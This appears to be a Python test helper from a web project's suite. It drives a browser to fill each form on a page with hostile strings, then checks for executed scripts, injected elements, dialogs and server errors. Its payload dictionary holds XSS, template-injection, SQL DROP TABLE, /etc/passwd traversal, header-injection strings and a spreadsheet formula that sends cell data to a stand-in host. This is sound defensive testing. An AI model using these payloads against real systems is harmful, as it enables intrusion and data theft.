"""Strings that want to be run, and how a browser is made to send them through any form that a page has."""

from collections.abc import Sequence
from dataclasses import dataclass
from typing import Any

from tests.web.browser import Opened

STRINGS = {
    "tags": "<script>hacked=1;alert(1)</script><img src=x onerror=hacked=1><svg/onload=alert(1)>",
    "attributes": "\"'><input autofocus onfocus=hacked=1>' onmouseover='hacked=1' x=\" style=\"color:red",
    "templates": "{{ 7*7 }}{% debug %}{name}{0.__class__}%(name)s${7*7}#{7*7}{{ request.user }}",
    "formula": '=HYPERLINK("//elsewhere.example/?"&A1,"x")+@SUM(1)|cmd',
    "directions": "\u202exslx.txt\u2066 \u200f\u0301\u0301\u0301\u0301 👩\u200d💻🏳\ufe0f\u200d🌈 \ufb01\uff2c\uff49",
    "controls": "a\x00b\x1b[31m\x07\x7f\ufeff\u2028\r\nSet-Cookie: licite=1\ud800",
    "long": "é" * 10_000,
    "places": "../../../../etc/passwd%00\\..\\..//elsewhere.example/",
    "sql": "'; DROP TABLE store_contact; -- \" OR 1=1) UNION SELECT 1",
    "address": "javascript:hacked=1//data:text/html,<script>hacked=1</script>",
}
SIGNS = "hacked=1"
_PATIENCE = 1_200
_VALID = {"email": "hostile@noroit.example", "tel": "06 39 98 12 34", "date": "2026-11-18", "number": "1",
          "datetime-local": "2026-11-18T09:30"}  # fmt: skip
_FORMS = """
() => [...document.forms].map((form, number) => ({
  number,
  action: new URL(form.getAttribute("hx-post") || form.getAttribute("action") || location.href, location.href).pathname,
  method: form.method,
  names: [...form.elements].filter((one) => one.name && one.name !== "csrfmiddlewaretoken" && one.type !== "submit")
    .map((one) => one.name + ":" + one.type),
}))
"""
_SEND = """
([number, strings, round, everything, valid]) => {
  const form = document.forms[number];
  form.noValidate = true;
  let count = round;
  const groups = new Set();
  for (const one of form.elements) {
    if (!one.name || one.name === "csrfmiddlewaretoken" || one.type === "file") continue;
    if (["submit", "button", "fieldset"].includes(one.type)) continue;
    const text = strings[count % strings.length];
    if (one.matches("input[type=text], input[type=search], input[type=password], textarea, input:not([type])")) {
      one.removeAttribute("maxlength");
      one.removeAttribute("pattern");
      const address = !everything && (one.inputMode === "email" || /address|email|login/.test(one.name));
      one.value = address ? valid.email : text;
      count += 1;
    } else if (one.type === "radio" || one.type === "checkbox") {
      if (!groups.has(one.name)) one.checked = true;
      groups.add(one.name);
      if (everything && one.checked) one.value = text;
    } else if (one.tagName === "SELECT") {
      if (everything) one.add(new Option(text, text, true, true));
      else if (!one.value && one.options.length > 1) one.selectedIndex = 1;
    } else if (everything) {
      one.type = "text";
      one.value = text;
      count += 1;
    } else if (one.type in valid && !one.value) {
      one.value = valid[one.type];
    }
  }
  const buttons = [...form.elements].filter((one) => one.type === "submit");
  form.target = "";
  window.sent = true;
  form.requestSubmit(buttons.length ? buttons[round % buttons.length] : null);
}
"""
_HARM = """
() => ({
  ran: typeof hacked !== "undefined",
  made: document.querySelectorAll(
    "[onerror], [onload], [onfocus], [onmouseover], [style], a[href^='javascript:']",
  ).length,
})
"""


@dataclass(frozen=True)
class Form:
    """A form that a page has: its number there, where it goes, and the names and kinds of what is typed in it."""

    number: int
    action: str
    method: str
    names: tuple[str, ...]


def forms_of(opened: Opened) -> list[Form]:
    """The forms of the page that hold something to say."""
    found = [Form(**one | {"names": tuple(one["names"])}) for one in opened.page.evaluate(_FORMS)]
    return [one for one in found if one.names]


class Watch:
    """What must not happen while hostile strings are about; `faults` tells what did."""

    def __init__(self, opened: Opened) -> None:
        self.faults: list[str] = []
        self._opened = opened
        opened.page.on("dialog", self._dialog)
        opened.page.on("response", self._answered)

    def _dialog(self, dialog: Any) -> None:
        self.faults.append(f"a dialog: {dialog.message}")
        dialog.dismiss()

    def _answered(self, response: Any) -> None:
        if response.status >= 500:
            self.faults.append(f"{response.status} of {response.request.method} {response.url}")

    def judge(self) -> list[str]:
        """What happened up to now, with what the page shows of it; what is told is told once."""
        opened = self._opened
        harm = opened.page.evaluate(_HARM)
        told = [*self.faults, *opened.elsewhere]
        told += [one for one in opened.complaints if "Failed to load resource" not in one]
        told += ["a script ran"] if harm["ran"] else []
        told += [f"{harm['made']} elements made of text"] if harm["made"] else []
        for kept in (self.faults, opened.elsewhere, opened.complaints):
            kept.clear()
        return told


def send(opened: Opened, form: Form, strings: Sequence[str], round_: int, *, everything: bool) -> int:
    """Fills a form with hostile strings and sends it; the status of the answer.

    `everything`: fields that are chosen, hidden or of a kind hold them too; else only what is typed as free text does.
    """
    page = opened.page
    for file in page.locator("form").nth(form.number).locator("input[type=file]").all():
        text = strings[round_ % len(strings)]
        name = "".join(sign for sign in text[:60] if sign not in "/\\\0\ud800\r\n") or "x"
        cells = ";".join(f'"{one}"'.replace('"', '""')[1:-1] for one in strings if len(one) < 200)
        content = f"Nom;E-mail;Société\n{cells}\nAnn Orme;ann.{round_}@orme.example;{strings[0]}\n"
        buffer = content.encode(errors="replace")
        file.set_input_files([{"name": f"{name}.csv", "mimeType": "text/csv", "buffer": buffer}])
    kinds = ("document", "xhr", "fetch")

    def last(answer: Any) -> bool:
        return answer.request.resource_type in kinds and not 300 <= answer.status < 400

    with page.expect_response(last) as answered:
        page.evaluate(_SEND, [form.number, list(strings), round_, everything, _VALID])
    answer = answered.value
    if answer.request.is_navigation_request() and "content-disposition" not in answer.headers:
        arrived(page)
    else:
        page.wait_for_timeout(100)
    return int(answer.status)


def arrived(page: Any) -> None:
    """Waits for the page that follows: the one before it has a mark."""
    for _ in range(_PATIENCE):
        try:
            if page.evaluate("!window.sent"):
                page.wait_for_load_state("load")
                return
        except Exception as between:  # there is no page between two pages
            if "context was destroyed" not in str(between) and "navigat" not in str(between):
                raise
        page.wait_for_timeout(50)
    raise AssertionError("no page follows")
